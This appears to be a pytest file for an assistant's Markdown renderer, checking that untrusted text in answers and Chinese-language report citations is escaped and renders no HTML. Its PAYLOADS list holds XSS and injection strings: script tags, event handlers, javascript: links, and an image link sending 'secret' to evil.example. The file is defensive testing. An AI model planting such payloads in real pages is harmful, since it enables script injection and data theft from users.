"""Foreign text stays text: whatever it holds, Markdown makes nothing of it."""

import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.records import Answer, Citation, Computation, NearMiss
from assistant.ui.rendering import escaped, line, reply, source_line

PAYLOADS = [
    "<script>window.__x=1</script>",
    "<img src=x onerror=window.__x=1>",
    "<svg onload=window.__x=1><circle/></svg>",
    "<iframe src=http://evil.example></iframe>",
    "<form action=http://evil.example><input name=密码></form>",
    "<a href=javascript:window.__x=1>点这里</a>",
    "<style>body{display:none}</style>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<object data=http://evil.example></object>",
    "<details open ontoggle=window.__x=1>",
    "![图](http://evil.example/a.png?d=secret)",
    "[登录](http://evil.example)",
    "[登录](javascript:window.__x=1)",
    "[1]: http://evil.example\n[1]",
    "<http://evil.example>",
    "http://evil.example/login www.evil.example a@evil.example",
    "&lt;img src=x onerror=window.__x=1&gt; &#60;script&#62;",
    "```html\n<script>window.__x=1</script>\n```",
    "data:text/html,<script>window.__x=1</script>",
    "| a | b |\n|---|---|\n| <img src=x> | **x** |",
    "# 标题\n- 项\n1. 项\n> 引\n---\n    代码",
    "$$\\href{javascript:window.__x=1}{x}$$",
    "\u202e颠倒\u200b的\x00字",
]
PLAIN_TAGS = {"p", "br"}
MARKDOWN = MarkdownIt("commonmark", {"html": True, "breaks": True}).enable(["table", "strikethrough"])


def tags(markdown: str) -> set[str]:
    return set(re.findall(r"<\s*/?\s*([A-Za-z0-9]+)", MARKDOWN.render(markdown)))


def shown(markdown: str) -> str:
    """The characters a reader sees, without the line breaks."""
    return "".join(child.content for token in MARKDOWN.parse(markdown) for child in token.children or [] if child.type in ("text", "text_special"))


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_payload_makes_no_element(payload: str) -> None:
    assert tags(escaped(payload)) <= PLAIN_TAGS
    assert tags(f"前文。{line(payload)} 后文") <= PLAIN_TAGS
    assert not re.search(r"[A-Za-z]:/|www\.|@", escaped(payload)), "a renderer would make a link of it by itself"


@given(st.text(alphabet=st.sampled_from("ab1年户，。 \n\t\\`*_{}[]<>()#+-=.!|~&$:;\"'/@^"), max_size=60))
def test_no_text_at_all_makes_an_element(text: str) -> None:
    assert tags(escaped(text)) <= PLAIN_TAGS


@pytest.mark.parametrize("text", ["完成危房改造86户，其中31户；", "1—9月完成60%（余量<5%）", "《关于…的通知》〔2021〕5号", "占比*注 [1] a_b_c", "3.5万元", "-22户"])
def test_ordinary_text_is_shown_as_it_is(text: str) -> None:
    assert shown(escaped(text)) == text


def citation(mark: int, name: str = "reports/2020年总结.docx", quote: str = "完成危房改造86户。") -> Citation:
    return Citation(mark, "d", name, "总结", ("一、完成情况", "（三）人居环境"), "2020", "result", quote, 0, len(quote))


def test_the_figure_leads_the_reply_and_the_source_closes_it() -> None:
    told = reply(Answer("问", "zh", "2020年：完成危房改造86户。[1]", "86户", False, None, (citation(1),)))
    first, text, source = told.split("\n\n")
    assert first == "## 86户"
    assert text == "2020年：完成危房改造**86户**。[1]"
    assert source == "> [1] 2020年总结.docx › 一、完成情况 › （三）人居环境 · 2020年 · 回顾"


def test_a_figure_inside_a_longer_number_is_not_made_bold() -> None:
    assert "**" not in reply(Answer("问", "zh", "完成186户。[1]", "86户", False, None, (citation(1),)))


def test_a_computation_shows_its_formula() -> None:
    told = reply(Answer("问", "zh", "减少22户。[1][2]", "减少22户", False, None, (citation(1), citation(2)), (), Computation("64-86=-22", (), "户")))
    assert "计算：64-86=-22 户" in told


def test_a_refusal_says_so_once_and_lists_what_came_nearest_and_why_not() -> None:
    told = reply(Answer("问", "zh", "资料中未找到：资料中只有计划数，没有完成数。", None, True, "plan_only", (), (), None, (NearMiss("plan_only", citation(1)),)))
    assert told.startswith("### 资料中未找到\n\n资料中只有计划数，没有完成数。")
    assert told.count("资料中未找到") == 1
    assert "> 是计划，不是完成情况：2020年总结.docx" in told


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_every_field_of_an_answer_is_made_harmless(payload: str) -> None:
    source = Citation(1, payload, payload, payload, (payload, payload), payload, "result", payload, 0, 1)
    told = reply(Answer(payload, "zh", f"{payload}[1](x)", payload, False, None, (source,), (), Computation(payload, (), payload), (NearMiss("redacted", source),)))
    assert tags(told) <= {"p", "br", "h2", "blockquote", "strong"}


def test_a_span_of_years_says_year_once() -> None:
    spanning = replace(citation(1), period="2021—2025")
    assert "2021—2025年" in source_line(spanning)
    assert "2021年" in source_line(replace(spanning, period="2021"))


def test_brackets_in_a_near_miss_do_not_end_its_link() -> None:
    """Escaped with a backslash they did on the page: what followed came alive as a picture."""
    one = replace(citation(1), heading_path=("（一）水利![图](http://evil.example/a.png)",))
    told = reply(Answer("问", "zh", "资料中未找到。", None, True, "period_absent", (), near_misses=(NearMiss("period_absent", one),)), "k")
    assert "&#33;&#91;图&#93;(http" in told
    assert "img" not in tags(told)
